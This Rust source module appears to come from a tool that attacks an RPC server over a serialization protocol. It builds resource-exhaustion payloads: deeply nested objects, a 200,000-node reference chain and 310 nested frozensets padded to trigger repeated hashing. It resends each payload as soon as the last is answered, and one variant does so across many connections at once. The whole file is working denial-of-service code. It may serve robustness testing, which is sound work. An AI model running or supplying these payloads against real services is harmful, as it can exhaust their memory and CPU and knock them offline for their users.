//! Single values that cost more than they seem to. Each is sent again when the one before was answered.

use std::io;

use super::{CONNECTIONS, together};
use crate::{
    peer::{Outcome, RawPeer},
    target::Target,
    wire::Wire,
};

/// Nodes of a chain: a message of 14.6 MB.
const NODES: u64 = 200_000;

/// The number of nested sets, below the 320 levels that values may have, and the bytes that pad each of
/// them.
const SETS: usize = 310;
const PAD: usize = 186 * 1024;

pub(super) fn wide_80(target: &Target) -> io::Result<Outcome> {
    repeat(target, "wide", &|wire| wide(wire, 80))
}

pub(super) fn wide_150(target: &Target) -> io::Result<Outcome> {
    repeat(target, "wide", &|wire| wide(wire, 150))
}

pub(super) fn chain(target: &Target) -> io::Result<Outcome> {
    repeat(target, "chain", &nodes)
}

pub(super) fn frozen(target: &Target) -> io::Result<Outcome> {
    repeat(target, "any", &sets)
}

pub(super) fn frozen_together(target: &Target) -> io::Result<Outcome> {
    let call = call(target, "any", &sets);
    together(CONNECTIONS, || ask(target, &call))
}

fn repeat(target: &Target, method: &str, argument: &dyn Fn(&mut Wire)) -> io::Result<Outcome> {
    ask(target, &call(target, method, argument))
}

fn call(target: &Target, method: &str, argument: &dyn Fn(&mut Wire)) -> Vec<u8> {
    let mut wire = target.wire();
    wire.call(1, method, Some(argument));
    wire.into_bytes()
}

fn ask(target: &Target, call: &[u8]) -> io::Result<Outcome> {
    let mut peer = RawPeer::connect(target)?;
    while peer.ask(call) {}
    Ok(peer.end())
}

/// Writes `[attack.Wide [dictionary [next [attack.Wide …]]]]`: about 40 bytes for each level.
fn wide(wire: &mut Wire, depth: usize) {
    for _ in 1..depth {
        wire.atom("attack.Wide", 1).atom("dictionary", 1).list(2).string(b"next");
    }
    wire.atom("attack.Wide", 1).atom("dictionary", 0);
}

/// Writes `[list [reference 1 [attack.Node [dictionary]]] [reference 2 […[next [dereference 1]]…]] …]`:
/// never deep on the wire, but one chain in memory.
fn nodes(wire: &mut Wire) {
    wire.atom("list", NODES as usize);
    for number in 1..=NODES {
        wire.atom("reference", 2).int(number).atom("attack.Node", 1);
        if number == 1 {
            wire.atom("dictionary", 0);
        } else {
            wire.atom("dictionary", 1).list(2).string(b"next");
            wire.atom("dereference", 1).int(number - 1);
        }
    }
}

/// Writes `[frozenset [frozenset … pad] pad]`. A reader that hashes the items of each set as a whole hashes
/// the innermost set once for each level.
fn sets(wire: &mut Wire) {
    for _ in 1..SETS {
        wire.atom("frozenset", 2);
    }
    wire.atom("frozenset", 1);
    let pad = vec![b'x'; PAD];
    for _ in 0..SETS {
        wire.string(&pad);
    }
}
